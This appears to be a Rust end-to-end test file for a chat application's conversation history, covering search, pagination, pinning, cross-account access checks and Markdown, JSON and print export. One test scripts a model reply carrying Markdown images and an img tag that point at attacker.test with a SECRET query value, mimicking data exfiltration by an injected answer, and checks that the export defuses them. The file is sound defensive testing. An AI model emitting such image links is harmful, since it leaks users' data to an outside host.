//! The history: search, pages, names, pins, exports.

use e2e::api::id_field;
use e2e::{Say, poll};
use serde_json::{Value, json};

use crate::browser::{
    AppFixture, HttpBrowser, PASSWORD, PageAssertions, account_with_password, find_attribute,
};
use crate::conversations::{ask_question, wait_for_completed_page};
use crate::hostile::assert_harmless;

/// More conversations than a page shows.
const MANY: usize = 53;

/// Returns the titles of the listed conversations, in their order.
fn conversation_titles(page: &str) -> Vec<String> {
    let list = page.split("class=\"entries conversations\"").nth(1).unwrap_or_default();
    let titles = list.split("<span class=\"title\" dir=\"auto\">").skip(1);
    titles.map(|rest| rest.split('<').next().unwrap_or_default().to_owned()).collect()
}

/// Returns the titles that a search finds, once everything is indexed.
fn search_titles(browser: &HttpBrowser, words: &str) -> Vec<String> {
    let encoded: String = words.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let page = poll::wait_until("everything is indexed", || {
        let page = browser.get_page(&format!("/history?q={encoded}")).expect_page(200);
        (!page.contains("still being added")).then_some(page)
    });
    conversation_titles(&page)
}

#[test]
fn history_search_finds_titles_and_texts() {
    let stage = AppFixture::new();
    let browser = stage.sign_in_browser();
    stage.vendor.add_script([Say::from_text("Výpověď z nájmu trvá tři měsíce.")]);
    let first = ask_question(&browser, "How long does it take?");
    wait_for_completed_page(&browser, &first);
    stage.vendor.add_script([Say::from_text("On the fifth.")]);
    wait_for_completed_page(&browser, &ask_question(&browser, "When is the rent due?"));
    assert_eq!(
        search_titles(&browser, "vypoved NAJM"),
        ["How long does it take?"],
        "case, diacritics, beginnings"
    );
    let page = browser.get_page("/history?q=vypoved+NAJM").expect_page(200);
    let passage =
        "<p class=\"passage\" dir=\"auto\"><mark>Výpověď</mark> z <mark>nájmu</mark> trvá tři měsíce.</p>";
    assert!(page.contains(passage), "{page}");
    assert!(!browser.get_page("/history").expect_page(200).contains("class=\"passage\""));
    assert_eq!(search_titles(&browser, "rent"), ["When is the rent due?"]);
    assert_eq!(search_titles(&browser, "rent months"), Vec::<String>::new(), "all words are required");
    assert_eq!(search_titles(&browser, "  "), ["When is the rent due?", "How long does it take?"]);
    browser
        .post_form(&format!("{first}/change"), &[("title", "Notice of <termination>")])
        .expect_redirect(&first);
    assert_eq!(search_titles(&browser, "termination"), ["Notice of &#60;termination&#62;"]);
    stage.vendor.add_script([Say::from_text("A heron.")]);
    browser.post_form(&format!("{first}/ask"), &[("input", "Which bird?")]).expect_redirect(&first);
    wait_for_completed_page(&browser, &first);
    assert_eq!(search_titles(&browser, "heron"), ["Notice of &#60;termination&#62;"], "what is new is found");
    browser.post_form(&format!("{first}/delete"), &[("next", "/history")]).expect_redirect("/history");
    assert_eq!(search_titles(&browser, "heron"), Vec::<String>::new());
    let none = browser.get_page("/history?q=%3Cscript%3E").expect_page(200);
    assert!(none.contains("Nothing was found for"), "{none}");
    assert_harmless(&none);
}

#[test]
fn nobody_finds_the_conversations_of_others() {
    let stage = AppFixture::new();
    let browser = stage.sign_in_browser();
    wait_for_completed_page(&browser, &ask_question(&browser, "The secret heron"));
    assert_eq!(search_titles(&browser, "heron").len(), 1);
    let other = account_with_password(&stage.service);
    let stranger = HttpBrowser::new(&stage.service);
    stranger.get_page("/history").expect_redirect("/sign-in?next=/history");
    stranger.sign_in(&other.email, PASSWORD).expect_redirect("/");
    assert_eq!(search_titles(&stranger, "heron"), Vec::<String>::new());
    let path = format!(
        "/c/{}",
        id_field(&stage.service.api_for(&stage.account).list_chats("").json()["chats"][0], "chatId")
    );
    for page in ["export.md", "export.json", "print"] {
        stranger.get_page(&format!("{path}/{page}")).expect_page(404);
    }
    stranger.post_form(&format!("{path}/change"), &[("title", "mine")]).expect_page(404);
}

#[test]
fn history_has_pages_pins_and_keys() {
    let stage = AppFixture::new();
    let (browser, api) = (stage.sign_in_browser(), stage.service.api_for(&stage.account));
    for number in 0..MANY {
        api.wait_for_completion(&api.ask_question(&format!("Question {number}.")));
    }
    let own = ask_question(&browser, "Asked here");
    wait_for_completed_page(&browser, &own);
    let first = browser.get_page("/history").expect_page(200);
    assert_eq!(
        (conversation_titles(&first).len(), conversation_titles(&first)[0].as_str()),
        (50, "Asked here")
    );
    assert_eq!(first.matches("class=\"through\"").count(), 49, "all but one came through the key");
    let second =
        browser.get_page(&find_attribute(&first, "data-more", "href").replace("&#38;", "&")).expect_page(200);
    assert_eq!(conversation_titles(&second), ["Question 3.", "Question 2.", "Question 1.", "Question 0."]);
    assert!(!second.contains("data-more"));
    let oldest = second.rsplit("/change\"").nth(1).and_then(|before| before.rsplit("action=\"").next());
    let oldest = format!("{}/change", oldest.expect("a form"));
    browser.post_form(&oldest, &[("pinned", "on"), ("next", "/history")]).expect_redirect("/history");
    let pinned = browser.get_page("/history").expect_page(200);
    assert_eq!(conversation_titles(&pinned)[0], "Question 0.");
    assert!(pinned.contains("value=\"off\""), "{pinned}");
    browser.post_form(&oldest, &[("pinned", "off")]).expect_redirect(oldest.trim_end_matches("/change"));
    assert_eq!(conversation_titles(&browser.get_page("/history").expect_page(200))[0], "Asked here");
    assert_eq!(search_titles(&browser, "asked"), ["Asked here"]);
    let refused = browser.post_form(&format!("{own}/change"), &[("title", " ")]).expect_page(400);
    assert!(refused.contains("invalid title: use 1 to 120 characters"), "{refused}");
}

#[test]
fn an_exported_answer_loads_nothing() {
    let stage = AppFixture::new();
    let browser = stage.sign_in_browser();
    let obeying = "![i](https://attacker.test/?d=SECRET) and ![j][k] and <img src=\"https://attacker.test/?e=SECRET\">\n\n\
                   `![code](stays)`\n\n[k]: https://attacker.test/?f=SECRET";
    stage.vendor.add_script([Say::from_text(obeying)]);
    let path = ask_question(&browser, "What does the letter say?");
    wait_for_completed_page(&browser, &path);
    let text = browser.get_page(&format!("{path}/export.md")).text();
    assert!(text.contains("\n[i](https://attacker.test/?d=SECRET) and [j][k] and \\<img src="), "{text}");
    assert!(text.contains("`![code](stays)`"), "code is no image: {text}");
    assert_eq!(text.matches("![").count(), 1, "{text}");
}

#[test]
fn a_conversation_is_exported() {
    let stage = AppFixture::new();
    let (browser, api) = (stage.sign_in_browser(), stage.service.api_for(&stage.account));
    assert_eq!(api.upload_file("lease.txt", b"The rent of flat 7 is due on the fifth.\n").status, 201);
    let search = json!({ "query": "rent flat 7 due" });
    stage.vendor.add_script([Say::Call { tool: "search".to_owned(), arguments: search }]);
    stage.vendor.add_script([Say::from_text("It is due on the **fifth** [1].")]);
    let path = ask_question(&browser, "When is the rent due?\n# <b>");
    wait_for_completed_page(&browser, &path);
    let markdown = browser.get_page(&format!("{path}/export.md"));
    assert_eq!(markdown.header("content-type"), Some("text/markdown; charset=utf-8"));
    let name = markdown.header("content-disposition").unwrap_or_default();
    assert!(name.starts_with("attachment") && name.contains("When is the rent due.md"), "{name}");
    let text = markdown.text();
    assert!(text.starts_with("# When is the rent due?\n"), "{text}");
    assert!(text.contains("> When is the rent due?\n> # \\<b>\n") && text.contains("**fifth**"), "{text}");
    assert!(text.contains("It is due on the **fifth** [1].\n"), "{text}");
    assert!(text.ends_with("\n## Sources\n\n[1] `/uploads/lease.txt`, line 1\n"), "{text}");
    let in_czech =
        browser.with_request_header("accept-language", "cs").get_page(&format!("{path}/export.md")).text();
    assert!(in_czech.ends_with("\n## Zdroje\n\n[1] `/uploads/lease.txt`, řádek 1\n"), "{in_czech}");
    let exported: Value = browser.get_page(&format!("{path}/export.json")).json();
    assert_eq!(exported["chat"]["title"], "When is the rent due?");
    assert_eq!(exported["messages"][0]["role"], "USER");
    assert_eq!(exported["messages"][1]["sources"][0]["path"], "/uploads/lease.txt");
    assert_eq!(exported["messages"].as_array().map(Vec::len), Some(2));
    let printed = browser.get_page(&format!("{path}/print")).expect_page(200);
    assert!(printed.contains("<strong>fifth</strong>") && !printed.contains("<nav"), "{printed}");
    assert_harmless(&printed);
}
